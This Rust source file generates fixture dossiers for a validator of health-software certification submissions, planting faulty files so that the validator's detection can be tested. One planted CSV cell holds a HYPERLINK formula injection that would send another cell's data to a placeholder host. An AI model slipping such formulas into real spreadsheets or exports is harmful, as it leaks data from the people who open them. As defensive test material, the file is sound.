//! The fixture dossiers: what a vendor's folder looks like, mostly good, with the mistakes that people make.

use greffier::pipeline::catalogue::Catalogue;
use greffier::pipeline::{Pipeline, ids};
use sha2::{Digest, Sha256};

use super::Files;
use super::office::{self, Cell};
use super::pack::Zip;
use super::pdf::{Chapter, pdf};
use super::picture::{Canvas, screen};
use super::requirements::{Kind, Requirement};
use super::video::{self, Film};

/// Profiles of the demonstration candidature.
const PROFILES: [&str; 3] = ["general", "medecin-traitant", "prescription"];

/// A file or a list of links that answers a proof.
struct Answer {
    name: String,
    bytes: Vec<u8>,
}

/// Adds all dossiers, and the page that says what is in them.
pub fn add(files: &mut Files, pipeline: &Pipeline, catalogue: &Catalogue, requirements: &[Requirement]) {
    let profiles = PROFILES.map(str::to_owned);
    let asked: Vec<&Requirement> = catalogue
        .preuves
        .iter()
        .filter(|p| pipeline.asks(p, &profiles, Some(false)))
        .filter_map(|p| requirements.iter().find(|r| r.preuve.id == p.id))
        .collect();
    let mistakes = demo(files, &asked);
    clean(files, &asked);
    eligibility(files);
    files.insert("dossiers/README.md".to_owned(), readme(&mistakes).into_bytes());
}

fn folder(requirement: &Requirement) -> String {
    let preuve = &requirement.preuve;
    format!("preuves/{}/{}", ids::folder_name(&preuve.exigence), ids::folder_name(&preuve.id))
}

/// What is wrong with a planted file, and the codes of the errors and warnings that it must get: no fewer and no others.
type Planted = (&'static str, &'static [&'static str]);

/// `lgc-demo`: a plain folder for the whole dossier. Returns the planted mistakes by path.
fn demo(files: &mut Files, asked: &[&Requirement]) -> Vec<(String, Planted)> {
    const TWICE: Planted = ("the same picture answers another proof", &["duplicate-elsewhere"]);
    const ROOT: &str = "dossiers/lgc-demo";
    let mut mistakes: Vec<(String, Planted)> = Vec::new();
    files.insert(format!("{ROOT}/candidature.toml"), candidature("IZCYKCWXGY", "dossier", "2026-01-29T10:32:00+01:00", false).into_bytes());
    mistakes.push((format!("{ROOT}/candidature.toml"), ("no NRU for the proxy", &["identifier-recommended"])));
    add_documentation(files, ROOT);
    files.insert(format!("{ROOT}/versions-obsoletes/versions.xlsx"), versions(true));
    mistakes.push((
        format!("{ROOT}/versions-obsoletes/versions.xlsx"),
        ("31/02/2025 is no date; a version without end date", &["obsolete-versions-cell-missing", "obsolete-versions-date-impossible"]),
    ));
    files.insert(format!("{ROOT}/cnda/pre-examen.png"), screen("CNDA", "Statut de la demande : Pré-examen").png());

    // The n-th proof of each kind decides what is wrong with it.
    let mut of_kind = [0usize; 8];
    let mut first_capture: Option<(String, Vec<u8>)> = None;
    for requirement in asked {
        let n = of_kind[requirement.kind as usize];
        of_kind[requirement.kind as usize] += 1;
        let id = &requirement.preuve.id;
        let directory = format!("{ROOT}/{}", folder(requirement));
        let (answers, mistake): (Vec<Answer>, Option<Planted>) = match (requirement.kind, n) {
            (Kind::Capture, 3) => {
                let png = screen(id, &requirement.preuve.title).png();
                (
                    one("capture.png", png[..png.len() * 2 / 3].to_vec()),
                    Some(("cut short: the upload or the copy was interrupted", &["image-truncated"])),
                )
            }
            (Kind::Capture, 11) => {
                (one("capture.png", Canvas::new(640, 400).png()), Some(("all white: the window was not captured", &["image-blank"])))
            }
            (Kind::Capture, 20) => {
                mistakes.push((directory.clone(), ("no file: the proof is missing", &["preuve-missing"])));
                continue;
            }
            (Kind::Capture, 30) => {
                let (path, bytes) = first_capture.clone().expect("an earlier one");
                mistakes.push((path, TWICE));
                (one("capture.png", bytes), Some(TWICE))
            }
            (Kind::Attestation, 1) => {
                let bytes = office::docx(&format!("Attestation {id}"), &attestation(id));
                (one("attestation.pdf", bytes), Some(("a Word document renamed .pdf", &["file-extension-mismatch"])))
            }
            (Kind::Message, 1) => {
                let zip = Zip::default().protected("message.xml", message(id).as_bytes(), "segur2026").finish();
                (one("message.zip", zip), Some(("an archive with a password", &["zip-encrypted"])))
            }
            (Kind::Texte, 1) => (one("trace.txt", Vec::new()), Some(("an empty file", &["file-empty"]))),
            (Kind::Tableau, 1) => (
                one("extraction.xlsm", office::xlsx("Extraction", &table(id), true)),
                Some(("a workbook with macros", &["format-not-accepted", "office-macro-vba"])),
            ),
            (Kind::Tableau, 5) => {
                let mut csv = "Date;Patient fictif;Action\r\n05/01/2026;TEST-A;Consultation\r\n".to_owned();
                csv +=
                    "06/01/2026;TEST-B;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&B2;\"\"ouvrir\"\")\"\r\n07/01/2026;TEST-C;Envoi\r\n";
                (
                    one("extraction.csv", csv.into_bytes()),
                    Some(("a cell that a spreadsheet program would run as a formula", &["csv-formula", "sheet-formula-network"])),
                )
            }
            (Kind::Lien, 2) => {
                let url = "https://interop.esante.gouv.fr/evs/report.seam?oid=1.3.6.1.4.1.12559.11.36.4.10421";
                (
                    one("gazelle.url", shortcut(url)),
                    Some(("a link to the early-testing platform, not to the one for référencement", &["gazelle-wrong-environment"])),
                )
            }
            (Kind::Lien, 4) => {
                let url = "https://interop.referencement.esante.gouv.fr/evs/hl7v2/validator.seam?standard=45";
                (
                    one("liens.txt", format!("{url}\n").into_bytes()),
                    Some(("a link to the validator's input page, not to a report", &["gazelle-not-a-proof"])),
                )
            }
            (kind, n) => (answer(requirement, kind, n), None),
        };
        if first_capture.is_none() && requirement.kind == Kind::Capture {
            first_capture = Some((format!("{directory}/{}", answers[0].name), answers[0].bytes.clone()));
        }
        for answer in answers {
            let path = format!("{directory}/{}", answer.name);
            if let Some(mistake) = mistake {
                mistakes.push((path.clone(), mistake));
            }
            files.insert(path, answer.bytes);
        }
    }
    let unknown = format!("{ROOT}/preuves/INS.99/INS.99.01.01/capture.png");
    files.insert(unknown.clone(), screen("INS.99.01.01", "Copie d'écran d'une exigence retirée").png());
    mistakes.push((unknown, ("no such proof in the catalogue", &["preuve-unknown"])));
    mistakes.sort();
    mistakes.dedup();
    mistakes
}

/// `lgc-clean`: one chapter, as the submission document that an upload service sends. Nothing is wrong with it.
fn clean(files: &mut Files, asked: &[&Requirement]) {
    const ROOT: &str = "dossiers/lgc-clean";
    let chapter: Vec<&&Requirement> = asked.iter().filter(|r| r.preuve.chapter == "Conformité aux autres services socles").collect();
    const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    const ODT: &str = "application/vnd.oasis.opendocument.text";
    let mut items = Vec::new();
    for (n, requirement) in chapter.into_iter().enumerate() {
        let (id, title) = (&requirement.preuve.id, &requirement.preuve.title);
        let png = || ("capture.png", "image/png", screen(id, title).png());
        let deposited = match n {
            0 => vec![("attestation.docx", WORD, office::docx("Attestation de conformité", &attestation(id)))],
            1 => vec![png(), ("demonstration.mp4", "video/mp4", film(id, title).iso(&[b"isom", b"iso2", b"avc1", b"mp41"]))],
            2 => vec![("capture.jpg", "image/jpeg", screen(id, title).jpeg(70))],
            3 => vec![("description.odt", ODT, office::odt("Description des messages", &attestation(id)))],
            _ => vec![png()],
        };
        for (name, media_type, bytes) in deposited {
            let object = format!("depot/{}/{name}", ids::folder_name(id));
            items.push(serde_json::json!({
                "id": format!("item-{:02}", items.len() + 1),
                "preuve": id,
                "file": {
                    "object": object,
                    "name": name,
                    "size": bytes.len(),
                    "media_type": media_type,
                    "sha256": hex::encode(Sha256::digest(&bytes)),
                },
            }));
            files.insert(format!("{ROOT}/{object}"), bytes);
        }
    }
    let submission = serde_json::json!({
        "schema": greffier::model::submission::SCHEMA,
        "demarche": "lgc-vague-2",
        "candidature": {
            "number": "QWHTRVBNZP",
            "company": "Éditions Fictives SAS",
            "product": "CabinetDémo",
            "version": "7.2.0",
            "profiles": PROFILES,
            "referenced_vague_1": false,
            "identifiers": { "nie": "E-8954230", "nil": "123456789", "nru-lps": "NRU-0001", "nru-proxy": "NRU-0001" },
        },
        "stage": { "kind": "chapter", "chapter": "services-socles" },
        "revision": 1,
        "submitted_at": "2026-01-20T09:15:00+01:00",
        "items": items,
    });
    let text = serde_json::to_string_pretty(&submission).expect("plain JSON") + "\n";
    files.insert(format!("{ROOT}/submission.json"), text.into_bytes());
}

/// `lgc-eligibility`: the eligibility stage of the same candidature. Nothing is wrong with it.
fn eligibility(files: &mut Files) {
    const ROOT: &str = "dossiers/lgc-eligibility";
    files.insert(
        format!("{ROOT}/candidature.toml"),
        candidature("QWHTRVBNZP", "eligibility", "2025-10-03T16:40:00+02:00", true).into_bytes(),
    );
    add_documentation(files, ROOT);
    files.insert(format!("{ROOT}/versions-obsoletes/versions.xlsx"), versions(false));
    files.insert(format!("{ROOT}/cnda/pre-examen.png"), screen("CNDA", "Demande de certification, statut : Pré-examen").png());
}

fn candidature(number: &str, stage: &str, submitted_at: &str, proxy: bool) -> String {
    let proxy = if proxy { "nru-proxy = \"NRU-0001\"\n" } else { "" };
    let profiles = PROFILES.map(|p| format!("\"{p}\"")).join(", ");
    format!(
        "# Candidature fictive : aucune société, aucun produit et aucun patient de ces fichiers n'existe.\n\
         demarche = \"lgc-vague-2\"\nstage = {{ kind = \"{stage}\" }}\nrevision = 1\nsubmitted_at = \"{submitted_at}\"\n\n\
         [candidature]\nnumber = \"{number}\"\ncompany = \"Éditions Fictives SAS\"\nproduct = \"CabinetDémo\"\nversion = \"7.2.0\"\n\
         profiles = [{profiles}]\nreferenced_vague_1 = false\n\n\
         [candidature.identifiers]\nnie = \"E-8954230\"\nnil = \"123456789\"\nnru-lps = \"NRU-0001\"\n{proxy}"
    )
}

fn one(name: &str, bytes: Vec<u8>) -> Vec<Answer> {
    vec![Answer { name: name.to_owned(), bytes }]
}

/// What honest vendors hand in, by kind; `n` varies the format.
fn answer(requirement: &Requirement, kind: Kind, n: usize) -> Vec<Answer> {
    let (id, title) = (&requirement.preuve.id, &requirement.preuve.title);
    let heading = format!("Preuve {id}");
    match kind {
        Kind::Capture => match n % 12 {
            5 => one("Capture d'écran 2026-01-12.jpg", screen(id, title).jpeg(45)),
            8 => vec![
                Answer { name: "etape-1.png".to_owned(), bytes: screen(&format!("{id} 1/2"), title).png() },
                Answer { name: "etape-2.png".to_owned(), bytes: screen(&format!("{id} 2/2"), title).png() },
            ],
            _ => one("capture.png", screen(id, title).png()),
        },
        Kind::Video => match n % 5 {
            0 => one("demonstration.mp4", film(id, title).iso(&[b"isom", b"iso2", b"avc1", b"mp41"])),
            1 => one("demonstration.mov", film(id, title).iso(&[b"qt  "])),
            2 => {
                let picture = screen(id, title);
                one("demonstration.avi", video::avi(&picture.jpeg(8), picture.width as u32, picture.height as u32, 6))
            }
            3 => one("demonstration.f4v", film(id, title).iso(&[b"f4v ", b"isom", b"mp42"])),
            _ => one("demonstration.flv", film(id, title).flv()),
        },
        Kind::Attestation => one("attestation.pdf", pdf(&heading, &[Chapter { title: format!("Attestation sur l'honneur {id}"), lines: attestation(id) }])),
        Kind::Document => match n % 4 {
            0 => one("description.docx", office::docx(&heading, &attestation(id))),
            1 => one("description.odt", office::odt(&heading, &attestation(id))),
            2 => one("presentation.pptx", office::pptx(&heading, &[title.clone(), format!("Référence {id}")])),
            _ => one("presentation.odp", office::odp(&heading, &[title.clone(), format!("Référence {id}")])),
        },
        Kind::Tableau => {
            let texts = |rows: Vec<Vec<Cell>>| -> Vec<Vec<String>> {
                let text = |cell: Cell| match cell {
                    Cell::Text(text) => text,
                    Cell::Number(number) => number.to_string(),
                    Cell::Date(days) => days.to_string(),
                };
                rows.into_iter().map(|row| row.into_iter().map(text).collect()).collect()
            };
            match n % 4 {
                0 => one("extraction.xlsx", office::xlsx("Extraction", &table(id), false)),
                1 => one("extraction.ods", office::ods("Extraction", &texts(table(id)))),
                2 => one("extraction.csv", texts(table(id)).iter().map(|row| row.join(";") + "\r\n").collect::<String>().into_bytes()),
                _ => one("extraction.xls", office::xls("Extraction", &texts(table(id)))),
            }
        }
        Kind::Texte => one("trace.txt", format!("Trace technique de la preuve {id}\r\n\r\n{title}\r\n\r\n2026-01-12T10:04:31+01:00 INFO  appel réussi, code 200, durée 412 ms\r\n2026-01-12T10:04:32+01:00 INFO  résultat enregistré dans le dossier fictif TEST-A\r\n").into_bytes()),
        Kind::Message => {
            let zip = Zip::default();
            let zip = if n.is_multiple_of(2) {
                zip.file("INDEX.HTM", b"<html><body><p>Archive IHE_XDM fictive</p></body></html>\n")
                    .file("README.TXT", b"Archive IHE_XDM fictive, sans donnee de sante.\r\n")
                    .file("IHE_XDM/SUBSET01/METADATA.XML", metadata(id).as_bytes())
                    .file("IHE_XDM/SUBSET01/DOC0001.XML", message(id).as_bytes())
            } else {
                zip.file("message.txt", message(id).as_bytes()).file("capture.png", &screen(id, title).png())
            };
            one("message.zip", zip.finish())
        }
        Kind::Lien => {
            let report = |n: usize| format!("https://interop.referencement.esante.gouv.fr/evs/report.seam?oid=1.3.6.1.4.1.12559.11.36.4.{}", 20_000 + n);
            if n.is_multiple_of(2) {
                one("gazelle.url", shortcut(&report(n)))
            } else {
                one("liens.txt", format!("{}\n{}\n", report(100 + n), report(200 + n)).into_bytes())
            }
        }
    }
}

fn film(id: &str, title: &str) -> Film {
    Film::new(&screen(id, title), 45)
}

/// A Windows Internet shortcut.
fn shortcut(url: &str) -> Vec<u8> {
    format!("[InternetShortcut]\r\nURL={url}\r\n").into_bytes()
}

fn attestation(id: &str) -> Vec<String> {
    [
        format!("Je soussignée, Camille Exemple, présidente de la société fictive Éditions Fictives SAS, atteste que le logiciel CabinetDémo version 7.2.0 répond à l'exigence de la preuve {id}."),
        "Cette attestation est faite sur la base des tests réalisés le 12 janvier 2026 sur un environnement de recette, avec des patients fictifs.".to_owned(),
        "Fait à Ville-Imaginaire, le 15 janvier 2026.".to_owned(),
        format!("Référence : {id} / {:08X}", super::picture::seed(id)),
    ]
    .into()
}

fn table(id: &str) -> Vec<Vec<Cell>> {
    let mut rows: Vec<Vec<Cell>> = vec![["Date", "Patient fictif", "Action", "Référence"].map(Cell::from).into()];
    for n in 0..12u32 {
        let action = ["Consultation", "Envoi", "Réception"][n as usize % 3];
        rows.push(vec![
            Cell::from(format!("{:02}/01/2026", n + 5)),
            Cell::from(format!("TEST-{}", char::from(b'A' + n as u8 % 8))),
            Cell::from(action),
            Cell::from(format!("{id}-{n}")),
        ]);
    }
    rows
}

fn message(id: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<message reference=\"{id}\">\n  <emetteur>CabinetDémo 7.2.0</emetteur>\n  <patient fictif=\"oui\">TEST-A</patient>\n</message>\n"
    )
}

fn metadata(id: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<lcm:SubmitObjectsRequest xmlns:lcm=\"urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0\" xmlns:rim=\"urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0\">\n  <rim:RegistryObjectList><rim:ExtrinsicObject id=\"{id}\" mimeType=\"text/xml\"/></rim:RegistryObjectList>\n</lcm:SubmitObjectsRequest>\n"
    )
}

/// The table of obsolete versions; the official template is not public.
fn versions(with_mistakes: bool) -> Vec<u8> {
    let headers = [
        "Produit",
        "Version",
        "Date de mise en service",
        "Date de fin de commercialisation",
        "Date de fin de support",
        "Type de fin",
        "Version de remplacement",
        "Nombre de clients",
        "Commentaire",
    ];
    let mut rows: Vec<Vec<Cell>> =
        vec![vec![Cell::from("Déclaration des versions obsolètes — CabinetDémo")], Vec::new(), headers.map(Cell::from).into()];
    // Days since 1899-12-30, as spreadsheets count: 43831 is 2020-01-01.
    let row = |version: &str, start: u32, sale: Cell, end: Cell, kind: &str, clients: f64| {
        vec![
            Cell::from("CabinetDémo"),
            Cell::from(version),
            Cell::Date(start),
            sale,
            end,
            Cell::from(kind),
            Cell::from("7.2"),
            Cell::Number(clients),
            Cell::from(""),
        ]
    };
    rows.push(row("5.0", 43_831, Cell::Date(44_561), Cell::Date(45_291), "Fin de support", 12.0));
    rows.push(row("5.4", 44_197, Cell::from("31/12/2022"), Cell::from("30 juin 2024"), "Fin de support", 31.0));
    if with_mistakes {
        rows.push(row("6.0", 44_562, Cell::from("31/12/2024"), Cell::from("31/02/2025"), "Fin de support", 58.0));
        rows.push(row("6.1", 44_927, Cell::Date(45_657), Cell::from(""), "Fin de support", 7.0));
    } else {
        rows.push(row("6.0", 44_562, Cell::from("31/12/2024"), Cell::from("28/02/2025"), "Fin de support", 58.0));
    }
    office::xlsx("Versions obsolètes", &rows, false)
}

fn add_documentation(files: &mut Files, root: &str) {
    let chapter = |title: &str, lines: &[&str]| Chapter { title: title.to_owned(), lines: lines.iter().map(|l| (*l).to_owned()).collect() };
    let guide = [
        chapter(
            "1. Présentation",
            &[
                "CabinetDémo 7.2.0 est un logiciel de gestion de cabinet fictif, destiné aux médecins de ville.",
                "Ce guide décrit l'installation, la prise en main et les fonctions attendues du profil général, du profil « Médecin traitant et Suivi de l'enfant » et du profil « Prescription médicale structurée ».",
            ],
        ),
        chapter(
            "2. Rendez-vous et agenda",
            &[
                "L'agenda présente les rendez-vous du jour, de la semaine et du mois.",
                "La prise de rendez-vous en ligne alimente l'agenda en temps réel.",
            ],
        ),
        chapter(
            "3. Dossier patient et identité nationale de santé",
            &[
                "Le dossier patient regroupe antécédents, allergies, vaccinations, constantes et documents.",
                "L'identité nationale de santé (INS) est récupérée par le téléservice INSi à partir de la carte Vitale, puis vérifiée et qualifiée. Le matricule INS et les traits d'identité sont affichés dans le bandeau du dossier.",
            ],
        ),
        chapter(
            "4. Prescription et aide à la décision",
            &[
                "La prescription médicale structurée s'appuie sur une base de données médicamenteuse certifiée.",
                "L'aide à la décision signale interactions, contre-indications et allergies. L'ordonnance numérique est transmise au téléservice.",
            ],
        ),
        chapter(
            "5. DMP et Mon espace santé",
            &[
                "Le DMP est consulté et alimenté depuis le dossier patient. Les documents sont aussi visibles dans Mon espace santé.",
                "L'opposition du patient est enregistrée et respectée.",
            ],
        ),
        chapter(
            "6. Messagerie sécurisée de santé (MSSanté)",
            &["Les courriers sont envoyés et reçus par MSSanté, entre professionnels et avec les patients (messagerie citoyenne)."],
        ),
        chapter("7. Tableaux de bord", &["Les tableaux de bord suivent la patientèle, la vaccination et le suivi de l'enfant."]),
        chapter(
            "8. Authentification Pro Santé Connect",
            &["L'utilisateur s'authentifie par Pro Santé Connect, avec la carte CPS ou la e-CPS."],
        ),
    ];
    files.insert(format!("{root}/documentation/guide-utilisateur.pdf"), pdf("CabinetDémo 7.2.0 — Guide de l'utilisateur", &guide));
    let install = [
        chapter("1. Prérequis", &["Poste de travail Windows 11 ou macOS 14, lecteur de carte CPS, connexion Internet."]),
        chapter("2. Installation", &["Lancer l'assistant, choisir le cabinet, saisir le code d'activation, puis redémarrer le poste."]),
        chapter(
            "3. Sauvegardes et journalisation",
            &[
                "Les sauvegardes sont quotidiennes et chiffrées. La journalisation des accès est conservée selon la politique de sécurité du cabinet.",
            ],
        ),
    ];
    files.insert(format!("{root}/documentation/guide-installation.pdf"), pdf("CabinetDémo 7.2.0 — Guide d'installation", &install));
}

fn readme(mistakes: &[(String, Planted)]) -> String {
    let mut page = "# Fixture dossiers\n\nMade by `cargo run --example make_fixtures`; do not edit. Every company, product, patient and wording is invented.\n\n\
        | dossier | what it is | expected |\n|---|---|---|\n\
        | `lgc-demo` | a plain folder, the whole dossier, 239 proofs owed | rejected: the mistakes below |\n\
        | `lgc-clean` | `submission.json`, chapter « services socles », 6 proofs | nothing wrong |\n\
        | `lgc-eligibility` | a plain folder, eligibility only | nothing wrong |\n\n\
        ## Mistakes planted in `lgc-demo`\n\n\
        Each gets these errors and warnings, and nothing else gets any: `tests/it/check.rs` reads this table.\n\n\
        | where | what | findings |\n|---|---|---|\n"
        .to_owned();
    for (path, (mistake, codes)) in mistakes {
        let path = path.strip_prefix("dossiers/lgc-demo/").unwrap_or(path);
        page += &format!("| `{path}` | {mistake} | `{}` |\n", codes.join("`, `"));
    }
    page + "\nFormats that the published list leaves unclear (`pdf`, `ods`, `flv`) are among the honest files: they are accepted with a notice. \
        Word 97 and PowerPoint 97 files are not among the fixtures: they cannot be written by hand in a reasonable number of lines.\n"
}

#[cfg(test)]
mod tests {
    use greffier::model::submission::{Stage, Submission};

    use super::*;

    #[test]
    fn submission_documents_are_read_by_the_program() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/dossiers");
        let text = std::fs::read_to_string(root.join("lgc-clean/submission.json")).unwrap();
        let submission: Submission = serde_json::from_str(&text).unwrap();
        assert_eq!(submission.stage, Stage::Chapter { chapter: "services-socles".into() });
        assert_eq!(submission.items.len(), 7);
        for dossier in ["lgc-demo", "lgc-eligibility"] {
            let text = std::fs::read_to_string(root.join(dossier).join("candidature.toml")).unwrap();
            // A folder's `candidature.toml` is the submission without what the folder itself says.
            let text = format!("schema = \"{}\"\n{text}", greffier::model::submission::SCHEMA);
            let submission: Submission = toml::from_str(&text).unwrap();
            assert_eq!(submission.candidature.profiles, PROFILES);
            assert!(submission.submitted_at.is_some_and(|at| at.parse::<jiff::Timestamp>().is_ok()));
        }
    }
}
